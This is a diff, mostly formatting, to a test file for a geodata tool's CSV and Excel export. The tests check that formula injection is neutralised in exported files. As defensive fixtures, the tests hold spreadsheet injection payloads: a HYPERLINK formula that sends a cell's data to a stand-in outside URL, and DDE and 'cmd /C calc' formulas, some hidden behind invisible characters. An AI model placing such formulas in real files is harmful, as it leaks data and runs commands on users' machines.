@@ -15,6 +15,8 @@ import pandas as pd
 import pyogrio
 import pytest
 
+from geo.cli import main
+from geo.config import load_config
 from geo.data import cells
 from geo.data.cells import (
     csv_bytes,
@@ -24,8 +26,6 @@ from geo.data.cells import (
     xlsx_row,
     xlsx_text,
 )
-from geo.cli import main
-from geo.config import load_config
 from geo.data.io import write_layers
 from geo.pipeline import load_city
 from geo.plan import run_plan
@@ -34,7 +34,6 @@ from tests.helpers import INVISIBLE as _INVISIBLE
 from tests.helpers import csv_rows, starts_a_formula, workbook_cells
 
 SAMPLE = "data/liuzhou_sample.gpkg"
-
 
 
 # --------------------------------------------------------------------------- the rule, by hand
@@ -47,13 +46,15 @@ FORMULA_CELLS = {
     "@SUM(9)": "'@SUM(9)",
     "\t=1+2": "'\t=1+2",
     "\r=1+2": "'\r=1+2",
-    "\x01=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")": "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")",
+    '\x01=HYPERLINK("' + hostile.OUTSIDE_URL + '?d="&C2,"详情")': "'=HYPERLINK(\""
+    + hostile.OUTSIDE_URL
+    + '?d="&C2,"详情")',
     "\u200b=1+2": "'=1+2",
     "\ufeff=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
     "\u202e=1+2": "'=1+2",
     "\u00a0=1+2": "'\u00a0=1+2",
     "＝1+2": "'＝1+2",
-    "=DDE(\"cmd\";\"/C calc\";\"A0\")": "'=DDE(\"cmd\";\"/C calc\";\"A0\")",
+    '=DDE("cmd";"/C calc";"A0")': '\'=DDE("cmd";"/C calc";"A0")',
 }
 
 OTHER_CELLS = {
@@ -108,8 +109,12 @@ def test_spreadsheet_text_refuses_a_number():
 
 
 def test_cells_of_a_column_match_the_rule_and_leave_numbers_alone():
-    values = pd.Series([*hostile.ALL, *OTHER_CELLS, None, -5, -2.5, np.int64(-3), True, np.nan, pd.NA],
-                       index=range(100, 100 + len(hostile.ALL) + len(OTHER_CELLS) + 7), dtype=object, name="名称")
+    values = pd.Series(
+        [*hostile.ALL, *OTHER_CELLS, None, -5, -2.5, np.int64(-3), True, np.nan, pd.NA],
+        index=range(100, 100 + len(hostile.ALL) + len(OTHER_CELLS) + 7),
+        dtype=object,
+        name="名称",
+    )
     result = spreadsheet_cells(values)
     assert result.index.equals(values.index) and result.name == "名称" and result.dtype == object
     texts = len(hostile.ALL) + len(OTHER_CELLS)
@@ -125,10 +130,10 @@ def test_cells_of_a_string_column():
 
 
 def test_csv_bytes_quote_text_and_neutralise_headers():
-    table = pd.DataFrame({"=1+2": ["\x01=HYPERLINK(\"x\")", None, "a;=1,b"], "人口": [-5, 3, None]})
+    table = pd.DataFrame({"=1+2": ['\x01=HYPERLINK("x")', None, "a;=1,b"], "人口": [-5, 3, None]})
     data = csv_bytes(table)
     assert data == ('\ufeff"\'=1+2","人口"\r\n"\'=HYPERLINK(""x"")",-5.0\r\n"",3.0\r\n"a;=1,b",""\r\n').encode("utf-8")
-    assert csv_rows(data) == [["'=1+2", "人口"], ["'=HYPERLINK(\"x\")", -5.0], ["", 3.0], ["a;=1,b", ""]]
+    assert csv_rows(data) == [["'=1+2", "人口"], ['\'=HYPERLINK("x")', -5.0], ["", 3.0], ["a;=1,b", ""]]
 
 
 def test_xlsx_rows_store_text_as_text():
@@ -181,7 +186,7 @@ def test_cli_workbooks_hold_hostile_names_as_text(hostile_city, tmp_path, comman
     written = [name for title, rows in sheets.items() if title != "参数" for name in _names_written(rows, "名称")]
     expected = {xlsx_text(name) for name in names.values()}
     assert expected <= set(written)  # every hostile name is there, as text
-    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")" in written  # the reported case
+    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")' in written  # the reported case
     assert "{{ 6*7 }}" in written and "小区名称" in written
 
 
@@ -202,8 +207,8 @@ def test_a_corrected_rejects_file_reads_back_without_our_apostrophes(tmp_path):
 
     names = ["=1+2", "@SUM(9)", "-5 号楼", "'quoted' 小区", "普通小区"]
     rows = ["名称,区县,经度,纬度,人口,可用空地（平方米）,公共空间用于停车"]
-    rows += [f"\"{name}\",城中区,109.40{i},24.32,{500 + i},400,否" for i, name in enumerate(names)]
-    rows.append("\"=HYPERLINK(1)\",,109.41,24.32,500,400,否")   # no district: rejected
+    rows += [f'"{name}",城中区,109.40{i},24.32,{500 + i},400,否' for i, name in enumerate(names)]
+    rows.append('"=HYPERLINK(1)",,109.41,24.32,500,400,否')  # no district: rejected
     source = tmp_path / "survey.csv"
     source.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8-sig")
     first = import_file(source, "communities")
@@ -213,7 +218,7 @@ def test_a_corrected_rejects_file_reads_back_without_our_apostrophes(tmp_path):
     assert "'=HYPERLINK(1)" in text
     # The office fills in the district in the rejects file and sends it back.
     fixed = tmp_path / "fixed.csv"
-    fixed.write_text(text.replace(",\"'=HYPERLINK(1)\",\"\",", ",\"'=HYPERLINK(1)\",\"城中区\","), encoding="utf-8-sig")
+    fixed.write_text(text.replace(',"\'=HYPERLINK(1)","",', ',"\'=HYPERLINK(1)","城中区",'), encoding="utf-8-sig")
     again = import_file(fixed, "communities")
     assert again.accepted["name"].tolist() == ["=HYPERLINK(1)"]
     # A name that merely starts with an apostrophe keeps it.
